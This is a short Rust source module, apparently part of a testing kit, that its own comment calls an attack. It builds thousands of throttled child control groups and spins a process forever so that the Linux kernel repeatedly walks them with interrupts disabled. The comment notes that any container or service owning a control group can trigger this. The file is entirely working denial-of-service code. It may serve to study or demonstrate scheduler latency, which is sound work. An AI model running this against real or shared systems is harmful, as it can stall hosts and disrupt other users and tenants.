//! An attack of our own: many control groups below one that exhausts its `cpu.max` again and again. Each time, the
//! kernel visits all of them with interrupts off. Every owner of a control group can do that, for example a service or
//! a container.

use crate::kit::group::{create, write};
use crate::kit::process::{set_policy, spin};

/// The number of control groups, if the kernel allows as many.
const GROUPS: usize = 5000;
/// The least quota and the period, in microseconds.
const MAX: &str = "1000 2000";

/// Attacks without end. The caller owns its group.
pub fn run(group: &str) -> Result<(), String> {
    let (own, many) = (format!("{group}/own"), format!("{group}/many"));
    create(&own)?;
    write(&format!("{own}/cgroup.procs"), "0")?;
    write(&format!("{group}/cgroup.subtree_control"), "+cpu")?;
    create(&many)?;
    write(&format!("{many}/cgroup.subtree_control"), "+cpu")?;
    let hog = format!("{many}/hog");
    create(&hog)?;
    let made = (0..GROUPS).take_while(|index| create(&format!("{many}/{index}")).is_ok()).count();
    eprintln!("{made} control groups");
    write(&format!("{many}/cpu.max"), MAX)?;
    // `cpu.max` does not throttle SCHED_FIFO.
    set_policy(libc::SCHED_OTHER as u32, 0)?;
    write(&format!("{hog}/cgroup.procs"), "0")?;
    spin()
}
